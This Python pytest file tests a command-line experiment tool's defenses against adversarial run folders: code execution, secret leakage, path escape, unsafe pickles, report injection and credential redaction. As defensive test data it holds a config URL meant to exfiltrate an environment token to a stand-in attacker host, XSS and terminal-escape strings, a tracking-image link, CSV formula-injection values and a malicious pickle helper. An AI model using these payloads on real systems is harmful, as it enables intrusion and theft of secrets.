"""Records, studies, names and files made by an adversary, through the command line."""

import csv
import json
import pickle

import pytest
from conftest import SMALL
from corpus.cases import Case, check
from corpus.records import MARK, SECRET, run_folder
from corpus.security import CODE, PATHS, PICKLES, SECRETS, evil_pickle

from cosmos_exp.config.record import load_config
from cosmos_exp.text import redact


@pytest.fixture(autouse=True)
def their_folder(tmp_path, monkeypatch):
    """The current directory is the adversary's, and a secret is in the environment. None of their code may run."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CORPUS_TOKEN", SECRET)
    yield
    assert not (tmp_path / MARK).exists(), "code of the record was run"


@pytest.mark.parametrize("case", CODE, ids=lambda c: c.name)
def test_no_code_comes_from_a_record_or_a_study(case, tmp_path, cli, capfd):
    check(case, tmp_path, cli, capfd)
    assert not (tmp_path / "outputs").exists()


@pytest.mark.parametrize("case", SECRETS, ids=lambda c: c.name)
def test_no_secret_leaves(case, tmp_path, cli, capfd):
    check(case, tmp_path, cli, capfd)


@pytest.mark.parametrize("case", PATHS, ids=lambda c: c.name)
def test_names_stay_in_their_folder(case, tmp_path, cli, capfd):
    check(case, tmp_path, cli, capfd)
    assert not (tmp_path / "runs" / "page.html").exists()


@pytest.mark.parametrize("case", PICKLES, ids=lambda c: c.name)
def test_pickles_are_refused(case, tmp_path, cli, capfd):
    check(case, tmp_path, cli, capfd)


def test_an_interpolation_in_a_record_is_plain_text(tmp_path):
    url = "http://attacker.invalid/v1/${oc.env:CORPUS_TOKEN}"
    config = load_config(
        run_folder(tmp_path / "theirs", {"judge.url": url, "tags": ["${oc.env:HOME}"]}) / "config.yaml"
    )
    assert config.judge.url == url
    assert config.tags == ["${oc.env:HOME}"]


def test_a_module_of_the_users_own_is_named_on_the_command_line(tmp_path, monkeypatch, cli, capfd):
    (tmp_path / "mine").mkdir()
    code = "from cosmos_exp.config.registry import JUDGES\nJUDGES.add('mine', lambda *arguments: None)\n"
    (tmp_path / "mine" / "my_world.py").write_text(code)
    monkeypatch.syspath_prepend(str(tmp_path / "mine"))
    words = ["dry_run=true", "judge=rules", "judge.name=mine"]
    assert cli("run", *words) == 2
    assert "judge.name=mine: no such choice" in capfd.readouterr().err
    assert cli("--plugin", "my_world", "run", *words) == 0
    assert cli("--plugin", "no_such_plugin", "run", *words) == 2
    assert "--plugin no_such_plugin: cannot be imported" in capfd.readouterr().err


def test_no_secret_is_written_by_a_run(tmp_path, cli, capfd, monkeypatch):
    """A password in judge.url, and a key in a variable, in none of the files of a run that fails: status, wandb, log."""
    monkeypatch.setenv("OPENAI_API_KEY", f"sk-{SECRET}")
    words = [*SMALL[:-1], "adapter=none", "tracking.mode=offline", "generation.num_steps=1", "sampson.enabled=false"]
    words += [f"measures.{name}=false" for name in ("references", "recording", "motion", "words")]
    words += ["judge=server", f"judge.url=http://me:{SECRET}@127.0.0.1:9/v1", "judge.source=m", "judge.retries=0"]
    case = Case(
        "run",
        lambda at: ["run", *words, f"tags=[sk-{SECRET}]", f"run_dir={at / 'run'}"],
        1,
        ("judge.url=http://***@127.0.0.1:9/v1", "Resume with"),
        (SECRET,),
    )
    check(case, tmp_path, cli, capfd)
    assert "http://***@127.0.0.1:9/v1" in (tmp_path / "run" / "config.yaml").read_text()
    assert "http://***@127.0.0.1:9/v1" in (tmp_path / "run" / "status.json").read_text()
    assert list((tmp_path / "run").rglob("*.wandb")), "wandb wrote nothing, so nothing was tested"


def test_reports_hold_no_tags_and_no_escapes(tmp_path, cli, capfd):
    """A caption with a script, a terminal escape, an image and a formula, and a folder named like one."""
    evil = "<script>alert(1)</script> \x1b[2J\x1b]0;owned\x07 ![x](http://attacker.invalid/x.png) [/red]"
    rows = [
        {"prompt": evil, "detail": {"answer": evil}},
        {"sample": "=1+1", "prompt": "@SUM(A1)", "video": "a__seed0.mp4"},
    ]
    folder = run_folder(tmp_path / "runs" / "<img src=x onerror=alert(1)>[red]", rows=rows)
    (folder / "status.json").write_text(json.dumps({"state": "failed", "stage": "train", "error": evil}))
    run_folder(tmp_path / "runs" / "good", rows=rows)
    assert cli("report", tmp_path / "runs") == 1  # one run has failed
    out, err = capfd.readouterr()
    assert "\x1b" not in out + err
    for name in ("report.md", "scores.csv", "table.tex", "report.json", "page.html"):
        text = (tmp_path / "runs" / name).read_text()
        assert "\x1b" not in text, name
        assert "\x07" not in text, name
        if name in ("report.md", "scores.csv", "page.html"):
            assert "<script>alert" not in text, name
            assert "<img src=x" not in text, name
    assert "](http" not in (tmp_path / "runs" / "report.md").read_text()
    with open(tmp_path / "runs" / "scores.csv", newline="") as file:
        cells = [c for row in csv.reader(file) for c in row]
    assert "'=1+1" in cells
    assert "'@SUM(A1)" in cells


def test_a_checkpoint_that_is_a_pickle_is_not_read(tmp_path):
    from cosmos_exp.training.checkpoints import Checkpoints

    state = tmp_path / "checkpoints" / "step_00000002" / "state.pt"
    state.parent.mkdir(parents=True)
    for content in (evil_pickle(tmp_path), pickle.dumps({"step": 2})):
        state.write_bytes(content)
        with pytest.warns(UserWarning, match="cannot be read"):
            assert Checkpoints(tmp_path / "checkpoints", 2).load_newest() is None


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("http://me:pw@host/v1?token=abcdefgh", "http://***@host/v1?token=***"),
        ("https://ghp_0123456789abcdefghijABCDEFGHIJ012345@github.com/a/b.git", "https://***@github.com/a/b.git"),
        ("key sk-proj-0123456789abcdef0123", "key ***"),
        ("hf_abcdefghijklmnopqrstuvwxyz", "***"),
        ("Authorization: Bearer abcdef.123456", "Authorization: Bearer ***"),
        ("AKIAABCDEFGHIJKLMNOP", "***"),
        (
            "git@github.com:a/b.git, 0123456789abcdef0123456789abcdef01234567",
            "git@github.com:a/b.git, 0123456789abcdef0123456789abcdef01234567",
        ),
        ("training.learning_rate: 0.0001, tokens=512, a@b.c", "training.learning_rate: 0.0001, tokens=512, a@b.c"),
        (f"value {SECRET}", "value ***"),
    ],
)
def test_what_looks_like_a_secret(text, shown):
    assert redact(text) == shown
